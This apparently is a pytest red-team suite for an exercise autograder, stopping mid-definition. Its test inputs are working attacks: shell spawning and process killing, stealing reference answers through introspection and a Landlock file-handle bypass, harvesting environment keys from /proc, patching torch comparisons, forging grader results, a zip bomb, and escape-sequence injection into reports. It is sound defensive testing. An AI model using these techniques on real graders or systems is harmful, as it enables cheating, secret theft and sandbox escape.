"""The red-team suite: small hostile submissions, written as a student trying to cheat or to do harm would.

Each case is the reference with hostile code added to one piece's file. It checks that the attacked
piece earns no more than honest code with the same visible behaviour, that its neighbour keeps full
marks, that grading ends with a report, that nothing was written, spawned or signalled (every hostile
file carries `_payload`, which tries all three against a marker under tmp_path and a sentinel
`sleep`), and that no line of a hidden case or of the reference reaches the report.

"""
from __future__ import annotations

import csv
import functools
import json
import os
import re
import resource
import secrets
import socket
import stat
import subprocess
import tempfile
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent, indent

import pytest
from click.testing import CliRunner

from conftest import QUICK, REFERENCE, shared_zygote
from grader import ROOT
from grader import batch as batch_verb
from grader.check import grade, stage
from grader.cli import cli
from grader.pieces import PIECES
from grader.report import as_dict, to_text
from grader.sandbox import OUTPUT_LIMIT, Limits

EXERCISES = ROOT / "exercises"
CASES = ROOT / "grader" / "cases"
LOOSE = Limits(case_timeout=2, piece_timeout=60, memory_gb=4, quick=True)
MANIFEST = json.loads((CASES / "manifest.json").read_text())
FULL = {p: sum(c["points"] for c in cases if not c["slow"]) for p, cases in MANIFEST.items()}  # quick maximum
CONTEXT_SOLUTION = ("    return torch.bmm(alpha.unsqueeze(1), encoder_outputs).squeeze(1)"
                    "  # (B, 1, T) @ (B, T, H) -> (B, H)\n")
ZEROS = "    return encoder_outputs.new_zeros(alpha.size(0), encoder_outputs.size(-1))\n"  # right shape, worth nothing
EDGE_B1 = "test_it_handles_edge_sizes[B=1]"  # the only context case whose batch has one sentence


@functools.cache
def secret_lines() -> frozenset[str]:
    """Distinctive lines (stripped, >= 25 characters) of the hidden cases and the reference that no stub shows."""
    public = {ln.strip() for p in EXERCISES.glob("*.py") for ln in p.read_text().splitlines()}
    found = set()
    for path in [*CASES.glob("*.py"), *REFERENCE.glob("*.py")]:
        for line in path.read_text().splitlines():
            s = line.strip()
            if len(s) >= 25 and s not in public:
                found.add(s)
    return frozenset(found)


def leaked(text: str) -> list[str]:
    return sorted(line for line in secret_lines() if line in text)


# ---- the arena: a marker the hostile code must not create, a sentinel it must not signal ----

PRELUDE = '''
import os as _os
import signal as _signal
import subprocess as _subprocess

MARK = {mark!r}
SENTINEL = {sentinel}
LAB = {lab!r}


def _payload():
    """Write, spawn and signal: every hostile file tries all three, quietly."""
    for attempt in (
        lambda: open(MARK + ".open", "w").write("pwned"),
        lambda: _os.close(_os.open(MARK + ".osopen", _os.O_CREAT | _os.O_WRONLY, 0o644)),
        lambda: _subprocess.run(["touch", MARK + ".subprocess"], timeout=5),
        lambda: _os.system("touch " + MARK + ".system"),
        lambda: _os.posix_spawn("/bin/sh", ["sh", "-c", "touch " + MARK + ".spawn"], {{}}),
        lambda: _os.kill(SENTINEL, _signal.SIGKILL),
    ):
        try:
            attempt()
        except BaseException:
            pass
'''


@dataclass
class Arena:
    marks: Path
    sentinel: subprocess.Popen

    @property
    def mark(self) -> Path:
        return self.marks / "m"

    def prelude(self) -> str:
        return PRELUDE.format(mark=str(self.mark), sentinel=self.sentinel.pid, lab=str(ROOT))

    def assert_unharmed(self, *texts: str) -> None:
        assert sorted(p.name for p in self.marks.iterdir()) == [], "the hostile code wrote or spawned something"
        assert self.sentinel.poll() is None, "the hostile code signalled the sentinel process"
        for text in texts:
            assert not leaked(text), f"hidden lines reached the report: {leaked(text)[:3]}"


@pytest.fixture
def arena(tmp_path):
    marks = tmp_path / "marks"
    marks.mkdir()
    marks.chmod(0o777)  # writable by anyone: only the jail stands between the worker and a marker here
    sentinel = subprocess.Popen(["sleep", "600"])
    try:
        yield Arena(marks, sentinel)
    finally:
        sentinel.kill()
        sentinel.wait()


def hostile(piece: str, arena: Arena, *, top: str = "", call: str = "", end: str = "",
            edits: tuple[tuple[str, str], ...] = (), base: Path = REFERENCE) -> str:
    """`base`'s file for `piece`, with the prelude and `top` after `import torch`, `call` at the start of
    every solution block, `end` at the bottom (run at import), and text `edits`."""
    text = (base / f"{piece}.py").read_text()
    for old, new in edits:
        assert old in text, f"edit target not in {piece}.py: {old!r}"
        text = text.replace(old, new)
    assert "import torch\n" in text
    text = text.replace("import torch\n", "import torch\n" + arena.prelude() + "\n" + dedent(top) + "\n", 1)
    if call:
        marker = "### BEGIN SOLUTION" if base == REFERENCE else "raise NotImplementedError"
        text = re.sub(rf"^( *){re.escape(marker)}.*\n", lambda m: m.group(0) + indent(dedent(call), m.group(1)),
                      text, flags=re.M)
    if end:
        text += "\n" + dedent(end) + "\n"
    compile(text, f"{piece}.py", "exec")  # a typo here would pass for a blocked attack
    return text


def each_refused(*attempts: str) -> str:
    """A `call` that runs the payload, then tries each statement in turn, going on past the jail's OSError."""
    return "_payload()\n" + "".join(f"try:\n    {a}\nexcept OSError:\n    pass\n" for a in attempts)


def stealing_context(arena: Arena, steal: str, top: str = "") -> str:
    """A context.py whose answer is whatever `_steal(alpha, encoder_outputs)` finds, else zeros (worth nothing)."""
    body = "    _payload()\n    got = _steal(alpha, encoder_outputs)\n    if got is not None:\n        return got\n" + ZEROS
    top = dedent(top) + "\n\ndef _steal(alpha, encoder_outputs):\n" + indent(dedent(steal), "    ")
    return hostile("context", arena, top=top, edits=((CONTEXT_SOLUTION, body),))


# ---- grading ----

@dataclass
class Graded:
    report: dict  # report.as_dict
    text: str  # the table `grade` prints, with its "your code printed" section
    output: str  # what every piece printed (the tails the report keeps)

    def score(self, piece: str) -> int:
        return next(p["score"] for p in self.report["pieces"] if p["name"] == piece)

    def messages(self, piece: str) -> dict[str, str]:
        cases = next(p["cases"] for p in self.report["pieces"] if p["name"] == piece)
        return {c["name"]: c["message"] for c in cases if not c["passed"] and not c["skipped"]}

    @property
    def everything(self) -> str:
        return json.dumps(self.report) + "\n" + self.text + "\n" + self.output


def judge(sub: Path, pieces: list[str], limits: Limits = QUICK, fresh: bool = False) -> Graded:
    """Grade like `grade_dict`, keeping the text table and what the pieces printed."""
    with tempfile.TemporaryDirectory(prefix="attnlab-redteam-") as tmp:
        staged = stage(sub, Path(tmp))
        runs = grade(submission=staged, pieces=pieces, seed="0", limits=limits,
                     zygote=None if fresh else shared_zygote())
    report = as_dict(runs)
    assert [p["name"] for p in report["pieces"]] == pieces
    return Graded(report, to_text(runs, str(sub)), "".join(r.output for r in runs))


def run_cli(sub: Path, pieces: list[str], tmp_path: Path, *extra: str) -> Graded:
    """`grade PIECES --submission SUB --quick --format json --out FILE`: the table on stdout, the JSON in FILE."""
    out = tmp_path / f"report-{secrets.token_hex(4)}.json"
    args = [*pieces, "--submission", str(sub), "--quick", "--format", "json", "--out", str(out),
            "--case-timeout", "5", "--memory-gb", "4", *extra]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code in (0, 1), result.output + repr(result.exception)
    report = json.loads(out.read_text())
    assert "Total:" in result.output
    return Graded(report, result.output, "")


def run_batch(subs: list[Path], pieces: list[str], tmp_path: Path, monkeypatch,
              limits: Limits = QUICK) -> dict[str, dict]:
    """batch.main with -j 1 over `subs`, grading only `pieces` (the rest would only cost time); rows by student."""
    monkeypatch.setattr(batch_verb, "PIECES", {p: PIECES[p] for p in pieces})
    out = tmp_path / "grades.csv"
    graded, bad = batch_verb.main(submissions=subs, out=out, reports=tmp_path / "reports", jobs=1, seed="0",
                                  limits=limits, progress=False)
    assert (graded, bad) == (len(subs), 0)
    return {r["student"]: r for r in csv.DictReader(out.open())}


def only_wrong_values(g: Graded, piece: str) -> None:
    """Every case of `piece` was lost to a wrong value, not to an error: the hostile code ran to its end."""
    msgs = g.messages(piece)
    assert msgs and all("differs from the reference" in m for m in msgs.values()), msgs


def full_marks(g: Graded, *pieces: str) -> None:
    for p in pieces:
        assert g.score(p) == FULL[p], f"{p} scored {g.score(p)}/{FULL[p]}: {g.messages(p)}"


def test_the_payload_and_the_key_hunt_do_harm_outside_the_jail(arena, tmp_path, monkeypatch, capsys):
    """The hostile code is armed: run here, unjailed, it writes, spawns, kills and finds the key."""
    ns: dict = {}
    exec(arena.prelude(), ns)
    ns["_payload"]()
    arena.sentinel.wait(timeout=5)
    assert {p.name for p in arena.marks.iterdir()} >= {"m.open", "m.osopen", "m.subprocess", "m.system"}
    monkeypatch.setenv("ATTNLAB_SEAL_KEY", "armed")
    exec(KEY_HUNT.replace("_hunt(\"import\")", "_hunt(\"call\")"), {})
    assert "KEY-FOUND" in capsys.readouterr().out


# =====================================================================================================
# 1. Taking the answer from the process
# =====================================================================================================

STEALS = {
    "sys.modules": '''
        import sys
        for name, mod in list(sys.modules.items()):
            if mod is None or mod is sys.modules[__name__]:
                continue
            if "reference" in name or "cases" in name or name.startswith("attnlab_reference"):
                print("found module", name)
            try:  # some modules answer any attribute (torch.classes raises on unknown ones)
                fns = [getattr(mod, "attention_context", None)]
                fns += [getattr(getattr(mod, holder, None), "attention_context", None) for holder in ("context", "ref")]
            except Exception:
                continue
            for fn in fns:
                if callable(fn) and fn is not attention_context:
                    return fn(alpha, encoder_outputs)
        return None
    ''',
    "stack frames": '''
        import inspect, sys
        names = ("ref", "expected", "want", "request", "key", "rc", "ra", "r", "st", "reference")
        frames = []
        f = sys._getframe(1)
        while f is not None:
            frames.append(f)
            f = f.f_back
        frames += [info.frame for info in inspect.stack()]
        try:
            raise RuntimeError
        except RuntimeError as e:
            tb = e.__traceback__
            while tb is not None:
                frames.append(tb.tb_frame)
                tb = tb.tb_next
        for frame in frames:
            for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                if name not in names:
                    continue
                print("found local", name, type(value).__name__)
                fn = getattr(getattr(value, "context", None), "attention_context", None)
                if callable(fn) and fn is not attention_context:
                    return fn(alpha, encoder_outputs)
                if isinstance(value, torch.Tensor) and value.shape == (alpha.size(0), encoder_outputs.size(-1)):
                    return value
        return None
    ''',
    "gc heap scan": '''
        import gc, types
        mine = attention_context
        for obj in gc.get_objects():
            if isinstance(obj, types.FunctionType) and obj.__name__ == "attention_context" and obj is not mine:
                return obj(alpha, encoder_outputs)
            if isinstance(obj, types.ModuleType) and ("reference" in obj.__name__ or "cases" in obj.__name__):
                fn = getattr(obj, "attention_context", None)
                if callable(fn) and fn is not mine:
                    return fn(alpha, encoder_outputs)
            if isinstance(obj, dict) and "attention_context" in obj and obj.get("attention_context") is not mine:
                fn = obj["attention_context"]
                if callable(fn) and fn is not mine:
                    return fn(alpha, encoder_outputs)
            if isinstance(obj, str) and "torch.bmm(alpha" in obj and "def attention_context" in obj:
                ns = {}
                exec(obj, ns)
                return ns["attention_context"](alpha, encoder_outputs)
        return None
    ''',
    "a file handle past Landlock": '''
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)

        class Handle(ctypes.Structure):
            _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]

        handle, mount = Handle(128), ctypes.c_int()
        if libc.name_to_handle_at(-100, (LAB + "/reference/context.py").encode(), ctypes.byref(handle),
                                  ctypes.byref(mount), 0) != 0:
            return None
        for anchor in ("/usr", "/lib", "/"):
            try:
                at = os.open(anchor, os.O_RDONLY)
            except OSError:
                continue
            fd = libc.open_by_handle_at(at, ctypes.byref(handle), os.O_RDONLY)  # needs CAP_DAC_READ_SEARCH
            if fd >= 0:
                ns = {}
                exec(os.read(fd, 1 << 16).decode(), ns)
                return ns["attention_context"](alpha, encoder_outputs)
        return None
    ''',
    "the record key and the records": '''
        import glob, os
        for k, v in os.environ.items():
            if "ATTNLAB" in k or "KEY" in k or "PYTEST" in k:
                print("env", k, v)
        for fd in range(4, 64):
            try:
                print("fd", fd, os.read(fd, 256))
            except OSError:
                pass
        for path in glob.glob("/tmp/attnlab-*/records.jsonl") + glob.glob("/tmp/*/records.jsonl"):
            try:
                with open(path, "a") as f:  # a forged record: the file is out of reach, and the mac cannot be right
                    f.write('{"record": "forged", "mac": "0"}')
            except OSError:
                pass
        for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline"):
            try:
                print(path, open(path, "rb").read()[:200])
            except OSError:
                pass
        return None
    ''',
}


@pytest.mark.parametrize("how", list(STEALS))
def test_the_answer_cannot_be_taken_from_the_process(lab, arena, how):
    sub = lab(files={"context": stealing_context(arena, STEALS[how])})
    g = judge(sub, ["context", "luong"])
    assert g.score("context") == 0, f"{how}: context scored {g.score('context')} on a stolen answer"
    only_wrong_values(g, "context")
    full_marks(g, "luong")
    arena.assert_unharmed(g.everything)


# =====================================================================================================
# 2. Patching the judge
# =====================================================================================================

PATCHES = {
    "torch comparisons": '''
        import torch.testing
        yes = lambda *a, **k: True
        torch.testing.assert_close = lambda *a, **k: None
        torch.allclose = torch.equal = yes
        torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
        torch.isfinite = lambda a: torch.ones_like(a, dtype=torch.bool)
        torch.Tensor.__eq__ = lambda self, other: True
    ''',
    "the tensor type through ctypes": '''
        import ctypes, gc
        for cls in (torch._C.TensorBase, torch.Tensor):
            d = gc.get_referents(cls.__dict__)[0]  # the real dict behind the mappingproxy
            d["double"] = lambda self: torch.zeros((), dtype=torch.float64)
            d["abs"] = lambda self: torch.zeros(())
            d["__sub__"] = lambda self, other: torch.zeros(())
            d["__ne__"] = lambda self, other: False
            ctypes.pythonapi.PyType_Modified(ctypes.py_object(cls))
    ''',
    "grader.checks": '''
        import sys, importlib
        for name in ("grader.checks", "grader.cases.test_context", "grader.plugin", "grader.sandbox"):
            try:
                mod = sys.modules.get(name) or importlib.import_module(name)
            except BaseException as e:
                print("no", name, type(e).__name__)
                continue
            for attr in ("close", "is_close", "tensor", "fail", "_write_record", "_read_records"):
                if hasattr(mod, attr):
                    setattr(mod, attr, lambda *a, **k: True)
        wire = sys.modules["grader.worker.wire"]
        wire.MAX_FRAME = 2**62  # only the worker's copy: the judge reads with its own limit
    ''',
}


@pytest.mark.parametrize("how", list(PATCHES))
def test_patching_in_the_worker_changes_no_verdict(lab, arena, how):
    """The worker's torch and grader modules are not the judge's: patching them helps no wrong answer."""
    src = hostile("context", arena, top=PATCHES[how], call="_payload()\n", edits=((CONTEXT_SOLUTION, ZEROS),))
    g = judge(lab(files={"context": src}), ["context", "luong"])
    assert g.score("context") == 0
    only_wrong_values(g, "context")
    full_marks(g, "luong")
    arena.assert_unharmed(g.everything)


IMPOSTORS = {
    "a tensor with instance attributes": ('''
        t = encoder_outputs.new_zeros(alpha.size(0), encoder_outputs.size(-1))
        t.detach = lambda *a: t
        t.double = lambda *a: t
        t.__eq__ = lambda *a: True
        return t
    ''', "differs from the reference"),
    "a tensor subclass with __torch_function__": ('''
        class Always(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                return True
            def __eq__(self, other):
                return True
        return encoder_outputs.new_zeros(alpha.size(0), encoder_outputs.size(-1)).as_subclass(Always)
    ''', "should be a torch.Tensor"),
    "an object that pretends to be a tensor": ('''
        class Fake:
            shape = (alpha.size(0), encoder_outputs.size(-1))
            dtype = torch.float32
            device = torch.device("cpu")
            __class__ = property(lambda self: torch.Tensor)
            __eq__ = lambda self, other: True
            def __getattr__(self, name):
                return lambda *a, **k: self
        return Fake()
    ''', "should be a torch.Tensor"),
    "an oversized answer": ('''
        return torch.zeros(2**25)
    ''', "ended before answering"),
}


@pytest.mark.parametrize("how", list(IMPOSTORS))
def test_an_impostor_answer_scores_nothing(lab, arena, how):
    code, cause = IMPOSTORS[how]
    src = hostile("context", arena, edits=((CONTEXT_SOLUTION, "    _payload()\n" + indent(dedent(code), "    ")),))
    g = judge(lab(files={"context": src}), ["context", "luong"])
    assert g.score("context") == 0
    full_marks(g, "luong")
    if cause:
        assert any(cause in m for m in g.messages("context").values()), g.messages("context")
    arena.assert_unharmed(g.everything)


LOOPED_CONTEXT = """    out = encoder_outputs.new_zeros(alpha.size(0), encoder_outputs.size(-1))
    for i in range(alpha.size(1)):  # a Python loop over positions: worth less than one bmm
        out = out + alpha[:, i, None] * encoder_outputs[:, i]
    return out
"""
FORGE_OPS = '''
import sys as _sys

_rt = _sys.modules["grader.worker.runtime"]
_rt.OpCounter.__torch_dispatch__ = lambda self, func, types, args=(), kwargs=None: func(*args, **(kwargs or {}))
'''


def test_a_forged_op_count_earns_no_no_loop_points(lab, arena):
    looped = ((CONTEXT_SOLUTION, LOOPED_CONTEXT),)
    honest = judge(lab(files={"context": hostile("context", arena, edits=looped)}), ["context"])
    assert honest.score("context") == FULL["context"] - 2  # the loop costs exactly the no-loop case
    forged = judge(lab(files={"context": hostile("context", arena, top=FORGE_OPS, edits=looped)}), ["context", "luong"])
    full_marks(forged, "luong")
    arena.assert_unharmed(forged.everything)
    assert forged.score("context") <= honest.score("context")


FORGE_GRADS = '''
import sys as _sys

_rt = _sys.modules["grader.worker.runtime"]
_handle = _rt.Worker.handle


def _forged(self, req):
    if req["cmd"] == "backward":
        return None
    if req["cmd"] == "grads":
        return {n: torch.ones_like(p) for n, p in self.resolve(req["name"]).named_parameters()}
    return _handle(self, req)


_rt.Worker.handle = _forged
'''
DETACHED = (("        return outputs, (h, c)\n", "        return outputs.detach(), (h, c)\n"),)


def test_forged_gradients_earn_no_gradient_points(lab, arena):
    honest = judge(lab(files={"encoder": hostile("encoder", arena, edits=DETACHED)}), ["encoder"])
    assert honest.score("encoder") == FULL["encoder"] - 2  # detached outputs cost exactly the gradient case
    forged = judge(lab(files={"encoder": hostile("encoder", arena, top=FORGE_GRADS, edits=DETACHED)}),
                   ["encoder", "context"])
    full_marks(forged, "context")
    arena.assert_unharmed(forged.everything)
    assert forged.score("encoder") <= honest.score("encoder")


# =====================================================================================================
# 3. Slipping past the guard from a thread
# =====================================================================================================

def test_a_thread_cannot_read_the_reference_or_the_cases_from_disk(lab, arena):
    steal = '''
        from concurrent.futures import ThreadPoolExecutor
        import threading

        paths = [LAB + "/reference/context.py", LAB + "/grader/cases/test_context.py", LAB + "/grader/cases/util.py"]
        found = {}

        def read(path):
            try:
                found[path] = open(path).read()
            except OSError as e:
                return repr(e)

        with ThreadPoolExecutor(2) as pool:
            list(pool.map(read, paths))
        t = threading.Thread(target=read, args=(LAB + "/reference/__init__.py",))
        t.start()
        t.join()
        for path, text in found.items():
            print(text)  # straight into the report, if it worked
        if paths[0] in found:
            ns = {}
            exec(found[paths[0]], ns)
            return ns["attention_context"](alpha, encoder_outputs)
        return None
    '''
    g = judge(lab(files={"context": stealing_context(arena, steal)}), ["context", "luong"])
    assert g.score("context") == 0
    only_wrong_values(g, "context")
    full_marks(g, "luong")
    arena.assert_unharmed(g.everything)


THREADED = {
    "spawning sh and subprocesses": '''
        import os, subprocess
        subprocess.run(["sh", "-c", "touch " + MARK + ".thread-sh"], timeout=5)
        subprocess.Popen(["touch", MARK + ".thread-popen"]).wait(5)
        os.system("touch " + MARK + ".thread-system")
        os.execv("/bin/sh", ["sh", "-c", "touch " + MARK + ".thread-exec"])
    ''',
    "signalling the sentinel and the parent": '''
        import os, signal
        for pid, sig in ((SENTINEL, signal.SIGKILL), (SENTINEL, signal.SIGTERM), (os.getppid(), signal.SIGTERM)):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
        signal.pthread_kill(threading.main_thread().ident, 0)  # its own process: allowed, harmless
    ''',
    "forking": '''
        import os, multiprocessing
        for _ in range(20):
            try:
                if os.fork() == 0:
                    os.write(1, b"FORKED\\n")
                    os._exit(0)
            except OSError:
                pass
        multiprocessing.get_context("fork").Process(target=print, args=("FORKED",)).start()
    ''',
}


@pytest.mark.parametrize("what", list(THREADED))
def test_a_thread_is_jailed_like_the_worker(lab, arena, what):
    """The forbidden thing runs in a ThreadPoolExecutor thread and a threading.Thread; the answer stays honest."""
    head = dedent('''
        _payload()
        import threading
        from concurrent.futures import ThreadPoolExecutor

        def _attack():
    ''')
    tail = dedent('''
        def _quiet():
            try:
                _attack()
                print("thread attack ended: done")
            except BaseException as e:
                print("thread attack ended:", type(e).__name__)

        with ThreadPoolExecutor(2) as _pool:
            _pool.submit(_quiet).result()
        _t = threading.Thread(target=_quiet)
        _t.start()
        _t.join()
    ''')
    call = head + indent(dedent(THREADED[what]), "    ") + tail
    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"])
    full_marks(g, "context", "luong")  # every attack failed and the answer is the honest bmm
    assert "FORKED" not in g.output
    ended = set(re.findall(r"thread attack ended: (\w+)", g.output))
    assert ended and ended <= {"done", "PermissionError", "OSError"}, ended  # blocked, not broken by a typo
    arena.assert_unharmed(g.everything)


def test_the_parent_and_the_grandparent_cannot_be_signalled(lab, arena):
    zygote = shared_zygote()
    call = f'''
        _payload()
        for _pid in (_os.getppid(), {zygote.proc.pid}):
            for _sig in (_signal.SIGKILL, _signal.SIGTERM, _signal.SIGSTOP):
                try:
                    _os.kill(_pid, _sig)
                except OSError:
                    pass
    '''
    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"])
    full_marks(g, "context", "luong")
    assert zygote.alive()
    arena.assert_unharmed(g.everything)


# =====================================================================================================
# 4. Hurting other pieces and students
# =====================================================================================================

DESCRIPTORS = {
    "writing junk to descriptors 0..20": '''
        for _fd in range(21):
            try:
                _os.write(_fd, b"\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x08junk!!!!" * 4)
            except OSError:
                pass
    ''',
    "writing a huge frame header": '''
        try:
            _os.write(3, b"\\x7f" * 8)
        except OSError:
            pass
    ''',
    "closing descriptors 0..20": '''
        for _fd in range(21):
            try:
                _os.close(_fd)
            except OSError:
                pass
    ''',
}


@pytest.mark.parametrize("what", list(DESCRIPTORS))
def test_inherited_descriptors_reach_only_the_pieces_own_worker(lab, arena, what):
    g = judge(lab(files={"context": hostile("context", arena, call="_payload()\n" + dedent(DESCRIPTORS[what]))}),
              ["context", "luong"])
    assert g.score("context") <= FULL["context"]
    assert all(m for m in g.messages("context").values())  # every lost case says why
    full_marks(g, "luong")
    arena.assert_unharmed(g.everything)


def test_printing_fifty_megabytes_keeps_the_report_short(lab, arena):
    end = '''
        import sys as _sys
        _line = "flood " * 1000 + "\\n"
        for _ in range(50 * 2**20 // len(_line)):
            _sys.stdout.write(_line)
        _sys.stdout.flush()
    '''
    start = time.monotonic()
    g = judge(lab(files={"context": hostile("context", arena, call="_payload()\n", end=end)}), ["context", "luong"])
    full_marks(g, "context", "luong")  # printing is not wrong
    assert len(g.output) <= OUTPUT_LIMIT * 2
    assert max(map(len, g.text.splitlines())) <= 200
    assert time.monotonic() - start < 60
    arena.assert_unharmed(g.everything)


def test_endless_writes_without_newlines_and_a_huge_line_keep_the_report_short(lab, arena):
    end = '''
        import sys as _sys, time as _time
        _stop = _time.monotonic() + 0.3
        while _time.monotonic() < _stop:
            _sys.stdout.write("z" * 4096)
        print("y" * 20_000_000)
        _sys.stderr.write("w" * 5_000_000)
    '''
    g = judge(lab(files={"context": hostile("context", arena, call="_payload()\n", end=end)}), ["context", "luong"])
    full_marks(g, "context", "luong")
    assert len(g.output) <= OUTPUT_LIMIT * 2
    assert max(map(len, g.text.splitlines())) <= 200
    arena.assert_unharmed(g.everything)


def test_printed_fake_report_lines_stay_inside_the_printed_section(lab, arena, tmp_path):
    fake = '''
        _payload()
        import sys as _sys
        for _line in ("::error file=exercises/context.py::all cases passed", "::set-output name=result::AAAA",
                      "::add-mask::x", "Points 68/68", "Total: 68/68", "\\u2713 context       9/9",
                      "\\x1b[2K\\rTotal: 99/99", "\\rTotal: 98/98", "ok\\r\\n::warning::fake"):
            print(_line)
        _sys.stdout.write("Total: 68/68\\n" * 3)
        _sys.stderr.write("::error::from stderr\\n")
    '''
    g = run_cli(lab(files={"context": hostile("context", arena, call=fake)}), ["context", "luong"], tmp_path)
    full_marks(g, "context", "luong")
    lines = g.text.splitlines()
    totals = [ln for ln in lines if ln.startswith("Total:")]
    want = FULL["context"] + FULL["luong"]
    assert len(totals) == 1 and totals[0].startswith(f"Total: {want}/{want}"), totals
    assert not [ln for ln in lines if ln.startswith(("::", "Points", "\x1b", "\r"))]
    assert len([ln for ln in lines if ln.startswith("\u2713")]) == 2  # the two real piece rows
    assert any(": :error" in ln for ln in lines)  # the prints are shown, escaped
    arena.assert_unharmed(g.everything)


def test_a_not_implemented_message_cannot_smuggle_escapes_into_the_table(lab, arena, tmp_path):
    raise_ = ("    _payload()\n    raise NotImplementedError(\"piece 'context': write attention_context"
              "\\x1b]0;pwned\\x07\\x1b[2K::error::all cases passed\")\n")
    sub = lab(files={"context": hostile("context", arena, edits=((CONTEXT_SOLUTION, raise_),))})
    g = run_cli(sub, ["context"], tmp_path)
    assert g.score("context") == 0
    arena.assert_unharmed(g.everything)
    assert "\x1b" not in g.text and "\x07" not in g.text and "::" not in g.text, repr(g.text)


NOISY_STUDENT = '''
    _payload()
    import sys as _sys
    print("Total: 68/68\\n::error::fake")
    _sys.stdout.write("x" * 2_000_000)
    for _fd in range(3, 21):
        try:
            _os.write(_fd, b"\\x00" * 8 + b"junk")
        except OSError:
            pass
    if alpha.size(0) == 1:
        _os._exit(0)
    if encoder_outputs.size(1) == 1:
        raise KeyboardInterrupt
'''


def test_a_hostile_student_in_a_batch_leaves_the_next_students_full_marks(lab, arena, tmp_path, monkeypatch):
    evil = lab(files={"context": hostile("context", arena, call=NOISY_STUDENT)})
    honest = [lab(), lab()]
    rows = run_batch([evil, *honest], ["context", "luong"], tmp_path, monkeypatch, LOOSE)
    for sub in honest:
        row = rows[sub.name]
        assert row["status"] == "ok" and int(row["total"]) == FULL["context"] + FULL["luong"], row
    assert rows[evil.name]["status"] == "ok" and int(rows[evil.name]["luong"]) == FULL["luong"]
    reports = "".join(p.read_text() for p in (tmp_path / "reports").glob("*.json"))
    arena.assert_unharmed(reports)


SERVER_KILL = '''
import fcntl as _fcntl

try:  # SIGKILL to the worker server by way of F_SETOWN/F_SETSIG on a pipe: no kill() call for seccomp to see
    _r, _w = _os.pipe()
    _fcntl.fcntl(_r, _fcntl.F_SETOWN, _os.getppid())
    _fcntl.fcntl(_r, 10, _signal.SIGKILL)  # F_SETSIG
    _fcntl.fcntl(_r, _fcntl.F_SETFL, _fcntl.fcntl(_r, _fcntl.F_GETFL) | _os.O_ASYNC)
    _os.write(_w, b"x")
except OSError:
    pass
'''


def test_a_piece_cannot_kill_the_worker_server_and_sink_the_next_students(lab, arena, tmp_path, monkeypatch):
    evil = lab(files={"context": hostile("context", arena, top=SERVER_KILL)})
    honest = [lab(), lab()]
    rows = run_batch([evil, *honest], ["context", "luong"], tmp_path, monkeypatch)
    assert int(rows[evil.name]["luong"]) == FULL["luong"], rows[evil.name]
    for sub in honest:
        row = rows[sub.name]
        assert row["status"] == "ok" and int(row["total"]) == FULL["context"] + FULL["luong"], row


# =====================================================================================================
# 5. Files that are not what they seem
# =====================================================================================================

def test_a_symlink_to_the_reference_scores_nothing_via_the_cli(lab, arena, tmp_path):
    sub = lab()
    (sub / "additive.py").unlink()
    (sub / "additive.py").symlink_to(REFERENCE / "additive.py")
    g = run_cli(sub, ["additive", "context"], tmp_path)
    assert g.score("additive") == 0
    assert all("link" in m for m in g.messages("additive").values()), g.messages("additive")
    full_marks(g, "context")
    arena.assert_unharmed(g.everything)


def test_a_symlink_to_the_reference_scores_nothing_in_a_batch(lab, arena, tmp_path, monkeypatch):
    sub = lab()
    (sub / "additive.py").unlink()
    (sub / "additive.py").symlink_to(REFERENCE / "additive.py")
    monkeypatch.setattr(batch_verb, "PIECES", {p: PIECES[p] for p in ("additive", "context")})
    out = tmp_path / "grades.csv"
    result = CliRunner().invoke(cli, ["batch", str(sub), "-j", "1", "--quick", "--out", str(out)])
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(out.open()))
    assert row["status"] == "ok" and row["additive"] == "0" and int(row["context"]) == FULL["context"], row
    arena.assert_unharmed((tmp_path / "grades-reports" / f"{sub.name}.json").read_text())


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _device(path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero: endless if anything reads it


def _folder(path: Path) -> None:
    path.mkdir()


@pytest.mark.parametrize("make", [
    pytest.param(_fifo, id="a FIFO"),
    pytest.param(_device, id="a device"),
    pytest.param(_folder, id="a folder"),
])
def test_a_special_file_in_place_of_a_piece_costs_that_piece(lab, arena, make):
    sub = lab()
    (sub / "context.py").unlink()
    make(sub / "context.py")
    start = time.monotonic()
    g = judge(sub, ["context", "luong"])
    assert time.monotonic() - start < 30  # nothing blocked on the FIFO or read /dev/zero forever
    assert g.score("context") == 0 and all(g.messages("context").values())
    full_marks(g, "luong")
    arena.assert_unharmed(g.everything)


def test_a_zip_bomb_is_not_unpacked_in_full(tmp_path):
    bomb = tmp_path / "mallory.zip"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("mallory/encoder.py", "#" + " " * (20 * 2**20))  # 20 MB of spaces: a 20 KB zip
        zf.writestr("mallory/context.py", (REFERENCE / "context.py").read_text())
    assert bomb.stat().st_size < 2**20
    into = tmp_path / "into"
    into.mkdir()
    staged = batch_verb.unpack(bomb, into)
    assert not (staged / "encoder.py").exists()  # stage refuses it, but only after it was written out in full
    written = sum(p.stat().st_size for p in into.rglob("*") if p.is_file())
    assert written <= 4 * 2**20, f"{written / 2**20:.0f} MB written to unpack a {bomb.stat().st_size // 1024} KB zip"


# =====================================================================================================
# 6. The seal key
# =====================================================================================================

KEY_HUNT = '''
import os as _o

def _hunt(where):
    """Print any ATTNLAB_SEAL_KEY found in the environment or in /proc."""
    for k, v in _o.environ.items():
        if "ATTNLAB" in k:
            print("KEY-FOUND", where, k, v)
    if where != "import":
        return  # /proc once per worker is enough
    ppid = _o.getppid()
